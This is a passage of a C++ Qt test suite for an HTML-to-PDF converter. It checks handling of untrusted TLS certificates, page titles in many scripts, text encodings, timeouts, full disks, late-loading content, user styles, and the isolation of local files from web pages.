    QVERIFY(tls);
    PageServer server("<html><body>tls</body></html>", tls);
    QVERIFY(server.Listen());
    const QString source = server.Url(QStringLiteral("/page.html"));

    ConvertOnly(source);

    QCOMPARE(m_rig.queue->State(0), RowState::Failed);
    QCOMPARE(m_rig.queue->Reason(0), NetErrorReason("net::ERR_CERT_AUTHORITY_INVALID", source));
    QVERIFY(!QFileInfo::exists(PdfOf(source)));
    QCOMPARE(server.requests, QStringList());
}

// A plain address whose document passes through a server with an untrusted certificate fails as the
// untrusted address itself does, and an earlier PDF stays; a part of the page from such a server does
// not fail the row.
void TestRealConverter::untrustedCertificateOnTheWay_data() {
    QTest::addColumn<QString>("path");    // on the plain server; "TLS": the untrusted server's address
    QTest::addColumn<QByteArray>("page"); // the plain server's page
    QTest::addColumn<bool>("fails");

    const QByteArray plainPage = "<html><body>Plain server's page</body></html>";
    QTest::newRow("a redirect to it") << "/redirect?to=TLS/page.html" << plainPage << true;
    QTest::newRow("a redirect through it")
        << "/redirect?to=TLS/redirect%3Fto%3DPLAIN/end.html" << plainPage << true;
    QTest::newRow("a script sending the page to it")
        << "/start.html"
        << QByteArray("<html><body>Start<script>location.href = 'TLS/page.html'</script></body></html>")
        << true;
    QTest::newRow("a picture from it") << "/start.html"
                                       << QByteArray("<html><body>Plain server's page<img src=\"TLS/"
                                                     "picture.png\"></body></html>")
                                       << false;
}

void TestRealConverter::untrustedCertificateOnTheWay() {
    QFETCH(QString, path);
    QFETCH(QByteArray, page);
    QFETCH(bool, fails);
    const std::optional<QSslConfiguration> tls = SelfSignedTls(m_rig.work->path());
    QVERIFY(tls);
    PageServer untrusted("<html><body>Untrusted server's page</body></html>", tls);
    QVERIFY(untrusted.Listen());
    const QString tlsBase = untrusted.Url({});
    PageServer plain(page.replace("TLS", tlsBase.toUtf8()));
    QVERIFY(plain.Listen());
    const QString source = plain.Url(
        path.replace("TLS", QString::fromLatin1(QUrl::toPercentEncoding(tlsBase)))
            .replace("PLAIN",
                     QString::fromLatin1(QUrl::toPercentEncoding(QUrl::toPercentEncoding(plain.Url({}))))));
    const QByteArray earlier = "%PDF-1.4 an earlier good conversion";
    QVERIFY(WriteFile(PdfOf(source), earlier));

    ConvertOnly(source);

    QVERIFY2(!untrusted.requests.isEmpty(), "the converter reached the untrusted server");
    if (fails) {
        QCOMPARE(m_rig.queue->State(0), RowState::Failed);
        QCOMPARE(m_rig.queue->Reason(0), NetErrorReason("net::ERR_CERT_AUTHORITY_INVALID", source));
        QCOMPARE(ReadFile(PdfOf(source)), earlier);
    } else {
        QVERIFY2(m_rig.queue->State(0) != RowState::Failed, qPrintable(m_rig.queue->Reason(0)));
        QVERIFY2(PdfText(PdfOf(source)).contains("Plain server's page"), qPrintable(PdfText(PdfOf(source))));
    }
}

// A page's title reaches the row, the PDF's name (named by title), its Title, the bookmark of a combined
// file and a {title} header with all its characters; the header shows what came from the page as it is,
// never reading it for fields.
void TestRealConverter::pageTitles_data() {
    QTest::addColumn<QByteArray>("markup"); // the <title>'s content
    QTest::addColumn<bool>("local");        // a local document (read with no script), else a web page
    QTest::addColumn<QString>("title");
    // DejaVu, the one font family the project installs, has no CJK or emoji glyphs to draw in a header.
    QTest::addColumn<bool>("drawable");

    QTest::newRow("accents") << QByteArray("Caf\xc3\xa9 \xc3\x9c"
                                           "ber na\xc3\xafve")
                             << false << QString::fromUtf8("Caf\u00e9 \u00dcber na\u00efve") << true;
    QTest::newRow("Hebrew") << QByteArray("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d") << false
                            << QString::fromUtf8("\u05e9\u05dc\u05d5\u05dd") << true;
    QTest::newRow("Arabic") << QByteArray("\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7") << false
                            << QString::fromUtf8("\u0645\u0631\u062d\u0628\u0627") << true;
    QTest::newRow("CJK") << QByteArray("\xe6\x97\xa5\xe6\x9c\xac \xe4\xb8\xad\xe6\x96\x87 "
                                       "\xed\x95\x9c\xea\xb5\xad\xec\x96\xb4")
                         << false << QString::fromUtf8("\u65e5\u672c \u4e2d\u6587 \ud55c\uad6d\uc5b4")
                         << false;
    QTest::newRow("emoji") << QByteArray("Party \xf0\x9f\x8e\x89 time") << false
                           << QString::fromUtf8("Party \U0001F389 time") << false;
    QTest::newRow("fields, web page")
        << QByteArray("A {url} {date} {title}") << false << "A {url} {date} {title}" << true;
    QTest::newRow("references, local document")
        << QByteArray("cmake(1) &mdash; CMake 3.25.1 Documentation &copy; 2024") << true
        << QString::fromUtf8("cmake(1) \u2014 CMake 3.25.1 Documentation \u00a9 2024") << true;
}

void TestRealConverter::pageTitles() {
    QFETCH(QByteArray, markup);
    QFETCH(bool, local);
    QFETCH(QString, title);
    QFETCH(bool, drawable);
    const QByteArray html = "<html><head><meta charset=\"utf-8\"><title>" + markup +
                            "</title></head><body><p>Body text</p></body></html>";
    PageServer server(html);
    QVERIFY(server.Listen());
    const QString file = m_rig.work->filePath(QStringLiteral("in/page.html"));
    QVERIFY(WriteFile(file, html));
    PageSetup page;
    page.header.centre = QStringLiteral("{title}");
    m_rig.command->Runner().SetPageSetup(page);
    m_rig.command->Runner().SetFinisher(pdf::RowFinisher());
    m_rig.command->Runner().SetNameBy(NameBy::Title);
    m_rig.command->SetCombiner(pdf::Combiner());
    m_rig.command->SetCombine({true, QStringLiteral("Combined"), true});

    ConvertOnly(local ? file : server.Url(QStringLiteral("/page.html")));

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QCOMPARE(m_rig.queue->PageTitle(0), title);
    const QString pdf = QDir::toNativeSeparators(QDir(m_rig.host->targetFolder).filePath(title + ".pdf"));
    QCOMPARE(m_rig.queue->OutputPath(0), pdf);
    QCOMPARE(PdfTitle(pdf), title);
    QCOMPARE(PdfOutline(m_rig.command->CombinedPath()), QStringList{title});
    if (!drawable)
        return;
    // The text as drawn: right-to-left runs come back marked, Arabic in its joined letter forms.
    static const QRegularExpression kDirectionMarks(QStringLiteral("[\u202a-\u202e\u2066-\u2069]"));
    const QString header = PdfText(pdf).remove(kDirectionMarks).normalized(QString::NormalizationForm_KC);
    QVERIFY2(header.contains(title), qPrintable(header));
}

void TestRealConverter::textEncodings_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("expected");

    QTest::newRow("UTF-8") << QByteArray("Dash \xe2\x80\x93 \xc3\xbcn\xc3\xaf"
                                         "c\xc3\xb6"
                                         "d\xc3\xa9 \xe2\x9c\x93\n")
                           << QString::fromUtf8("Dash \xe2\x80\x93 \xc3\xbcn\xc3\xaf"
                                                "c\xc3\xb6"
                                                "d\xc3\xa9 \xe2\x9c\x93");
    QTest::newRow("Latin-1") << QByteArray("Caf\xe9 na\xefve\n")
                             << QString::fromUtf8("Caf\xc3\xa9 na\xc3\xafve");
}

void TestRealConverter::textEncodings() {
    QFETCH(QByteArray, bytes);
    QFETCH(QString, expected);
    QVERIFY(WriteFile(m_rig.work->filePath("notes.txt"), bytes));

    const QString source = m_rig.work->filePath("notes.txt");
    ConvertOnly(source);

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QCOMPARE(PdfText(PdfOf(source)), expected);
}

void TestRealConverter::timeLimitReasonWithoutProgressNoise() {
    PageServer server("");
    QVERIFY(server.Listen());
    m_rig.command->Runner().SetTimeoutMs(4000);

    ConvertOnly(server.Url("/hang.html"));

    QCOMPARE(m_rig.queue->State(0), RowState::Failed);
    const QString reason = m_rig.queue->Reason(0);
    QVERIFY2(reason.startsWith("The conversion did not finish within 4 seconds"), qPrintable(reason));
    QVERIFY2(!reason.contains('%') && !reason.contains('['), qPrintable(reason));
}

// The converter ends well on a full disk, leaving an empty or cut-off file; the reason says why.
void TestRealConverter::fullDiskSaysSo_data() {
    QTest::addColumn<bool>("filled"); // no room at all, else room for the first part of the PDF
    QTest::newRow("full before the row") << true;
    QTest::newRow("fills while the PDF is written") << false;
}

void TestRealConverter::fullDiskSaysSo() {
    QFETCH(bool, filled);
    QByteArray page = "<html><body>";
    for (int paragraph = 0; paragraph < 2000; ++paragraph)
        page += "<p>Tide table entry " + QByteArray::number(paragraph) + " for the outer harbour</p>";
    QVERIFY(WriteFile(m_rig.work->filePath("long.html"), page + "</body></html>"));
    const SmallDisk disk(64 * 1024);
    if (!disk.IsMounted())
        QSKIP(qPrintable("A small disk could not be mounted (it needs root): " + disk.Problem()));
    m_rig.host->targetFolder = disk.FilePath(QStringLiteral("pdf"));
    QVERIFY(QDir().mkpath(m_rig.host->targetFolder));
    if (filled)
        QVERIFY(disk.Fill());

    ConvertOnly(m_rig.work->filePath("long.html"));

    QCOMPARE(m_rig.queue->State(0), RowState::Failed);
    QCOMPARE(m_rig.queue->Reason(0), QStringLiteral("The PDF file could not be written: the disk is full."));
    QCOMPARE(TemporaryFilesIn(m_rig.host->targetFolder), QStringList());
}

QTEST_MAIN(TestRealConverter)
#include "test_real_converter.moc"

void TestRealConverter::contentLoadedOnScrollIsPrinted_data() {
    QTest::addColumn<bool>("scroll");
    QTest::newRow("scrolled through") << true;
    QTest::newRow("not scrolled") << false;
}

// The converter's WebKit has no intersection observer, so the page loads its sections on scroll events.
void TestRealConverter::contentLoadedOnScrollIsPrinted() {
    QFETCH(bool, scroll);
    PageLoading loading;
    loading.scroll = scroll;
    const QString text = ConvertLoadingPage("/endless", loading);
    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(text.contains("Top of the list"), qPrintable(text));
    QCOMPARE(text.contains(kLastSectionText), scroll);
}

void TestRealConverter::collapsedSectionsOpenWhenAsked_data() {
    QTest::addColumn<bool>("open");
    QTest::newRow("opened") << true;
    QTest::newRow("left closed") << false;
}

void TestRealConverter::collapsedSectionsOpenWhenAsked() {
    QFETCH(bool, open);
    PageLoading loading;
    loading.openDetails = open;
    const QString text = ConvertLoadingPage("/details", loading);
    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(text.contains("Show the answer"), qPrintable(text));
    QCOMPARE(text.contains(kAnswerText), open);
}

void TestRealConverter::waitsForWhatThePageFinishesLate_data() {
    QTest::addColumn<QString>("selector");
    QTest::addColumn<QString>("expression");
    QTest::addColumn<int>("delayMs");
    QTest::addColumn<bool>("finished");
    QTest::newRow("no wait") << ""
                             << "" << 0 << false;
    QTest::newRow("an element") << "#done"
                                << "" << 0 << true;
    QTest::newRow("an expression") << ""
                                   << "window.reportReady === true" << 0 << true;
    QTest::newRow("a delay") << ""
                             << "" << 2500 << true;
}

void TestRealConverter::waitsForWhatThePageFinishesLate() {
    QFETCH(QString, selector);
    QFETCH(QString, expression);
    QFETCH(int, delayMs);
    QFETCH(bool, finished);
    PageLoading loading;
    loading.waitFor = selector;
    loading.waitUntil = expression;
    loading.delayMs = delayMs;
    const QString text = ConvertLoadingPage("/late", loading);
    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(text.contains("Report page"), qPrintable(text));
    QCOMPARE(text.contains(kFinishedText), finished);
}

void TestRealConverter::waitThatNeverEndsNamesWhatNeverCame_data() {
    QTest::addColumn<QString>("selector");
    QTest::addColumn<QString>("expression");
    QTest::addColumn<QString>("reason");
    QTest::newRow("an element")
        << "#never"
        << ""
        << "Its last message was: The page never showed an element matching \"#never\".";
    QTest::newRow("an expression") << ""
                                   << "window.neverSet"
                                   << "Its last message was: The page never made \"window.neverSet\" true.";
}

void TestRealConverter::waitThatNeverEndsNamesWhatNeverCame() {
    QFETCH(QString, selector);
    QFETCH(QString, expression);
    QFETCH(QString, reason);
    // Long enough for the converter to start and load the page on a busy machine.
    m_rig.command->Runner().SetTimeoutMs(10000);
    PageLoading loading;
    loading.waitFor = selector;
    loading.waitUntil = expression;
    ConvertLoadingPage("/details", loading);
    QCOMPARE(m_rig.queue->State(0), RowState::Failed);
    QVERIFY2(m_rig.queue->Reason(0).endsWith(reason), qPrintable(m_rig.queue->Reason(0)));
    QVERIFY(!QFile::exists(PdfOf(m_routes.Url("/details"))));
}

// The style reaches the converter as data, so its folder stays as closed to the page as before.
void TestRealConverter::userStyleAndHiddenElements() {
    QVERIFY(WriteFile(m_rig.work->filePath("style/mine.css"), "p.note::after { content: ' STYLEDBYUSER'; }"));
    QVERIFY(WriteFile(m_rig.work->filePath("style/secret.css"), "body::before { content: 'SECRETMARK'; }"));
    m_routes.routes["/styled-reads"] = {
        "200 OK", "text/html",
        "<html><head><link rel=stylesheet href='" +
            QUrl::fromLocalFile(m_rig.work->filePath("style/secret.css")).toEncoded() +
            "'></head><body><div id=cookie-banner>COOKIE BANNER</div><p class=note>Body text</p>"
            "<div class='chat-widget'>CHAT BUBBLE</div></body></html>"};
    PageLoading loading;
    loading.styleFile = m_rig.work->filePath("style/mine.css");
    loading.hide = "#cookie-banner, .chat-widget";
    const QString text = ConvertLoadingPage("/styled-reads", loading);
    QVERIFY2(m_rig.queue->State(0) != RowState::Failed, qPrintable(m_rig.queue->Reason(0)));
    QVERIFY2(text.contains("Body text STYLEDBYUSER"), qPrintable(text));
    for (const char* gone : {"COOKIE BANNER", "CHAT BUBBLE", "SECRETMARK"})
        QVERIFY2(!text.contains(gone), qPrintable(text));
}

void TestRealConverter::lateRedirectIsFollowed_data() {
    QTest::addColumn<QString>("path");
    QTest::newRow("a script after 500 ms") << "/soon";
    QTest::newRow("a refresh after half a second") << "/refresh-soon";
}

void TestRealConverter::lateRedirectIsFollowed() {
    QFETCH(QString, path);
    const QString text = ConvertLoadingPage(path, {});
    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(text.contains(kArrivedText) && !text.contains("Leaving soon"), qPrintable(text));
}

// A local document runs no script with this engine, so what needs one is refused rather than left out.
void TestRealConverter::localDocumentRefusesWhatNeedsAScript() {
    const QString page = m_rig.work->filePath("site/questions.html");
    QVERIFY(WriteFile(page, "<details><summary>Show</summary><p>Answer</p></details>"));
    PageSetup setup;
    setup.loading.openDetails = true;
    m_rig.command->Runner().SetPageSetup(setup);
    ConvertOnly(page);
    QCOMPARE(m_rig.queue->State(0), RowState::Failed);
    QCOMPARE(m_rig.queue->Reason(0), LocalDocumentProblem(setup.loading));
    QVERIFY(m_rig.queue->Reason(0).contains("open collapsed sections"));
}
